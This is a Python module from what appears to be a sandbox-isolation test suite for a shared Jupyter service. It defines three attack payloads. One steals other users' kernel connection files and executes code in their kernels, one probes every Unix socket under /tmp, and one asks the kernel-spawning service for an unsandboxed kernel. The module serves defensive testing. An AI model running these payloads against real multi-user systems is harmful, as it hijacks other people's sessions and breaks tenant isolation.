"""C14: driving another student's kernel, or the process that kernels are forked from."""

from hostile.core import LAST, Attack, aside

_FILES = """
import glob, json, os
from jupyter_client import BlockingKernelClient
own = get_ipython().kernel.session.key
places = ("/tmp/ck-*/**/*.json", "/tmp/ck-*/*", "/tmp/*.json")
places += ("/root" + "/.local/share/jupyter/runtime/*.json", "@HOME@/.local/share/jupyter/runtime/*.json")
for path in [each for place in places for each in glob.glob(place, recursive=True)][:50]:
    try:
        found = json.load(open(path))
    except (OSError, ValueError):
        continue
    if "key" in found and found["key"].encode() != own:
        print("got a connection file")
        client = BlockingKernelClient()
        client.load_connection_info(found)
        client.start_channels()
        client.execute("open('@INTO@/mark-@NAME@', 'w')")
"""
_SOCKETS = """
import glob, socket
for path in glob.glob("/tmp/**/*", recursive=True)[:500]:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(0.5)
        try:
            line.connect(path)
            print("got", path) if "@NAME@" not in path else None
        except OSError:
            pass
"""
_TEMPLATE = """
import glob, json, os, socket
known = open("/proc/net/unix").read().split()
for path in {each for each in known if each.startswith(("/", "@"))}:
    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        with socket.socket(socket.AF_UNIX, kind) as line:
            line.settimeout(0.5)
            try:
                line.connect("\\0" + path[1:] if path[0] == "@" else path)
                line.send(json.dumps({"box": None, "folder": "/", "environment": {}}).encode())
                print("got", path)
            except OSError:
                pass
for number in range(3, 200):
    try:
        where = os.readlink(f"/proc/self/fd/{number}")
        line = socket.socket(fileno=os.dup(number))
        if line.family == socket.AF_UNIX and line.type == socket.SOCK_SEQPACKET:
            line.send(json.dumps({"box": None, "folder": "/", "environment": {}}).encode())
    except OSError:
        pass
"""

ATTACKS = (
    Attack(
        "a14-files",
        14,
        "executes code by a connection file that it finds",
        aside(_FILES),
        LAST,
        stops="none is in sight",
    ),
    Attack("a14-sockets", 14, "connects to every socket below /tmp", aside(_SOCKETS), LAST, stops="none is in sight"),
    Attack(
        "a14-template",
        14,
        "asks the template for a kernel without a box",
        aside(_TEMPLATE),
        LAST,
        stops="its socket is out of sight, and no descriptor of it is inherited",
    ),
)
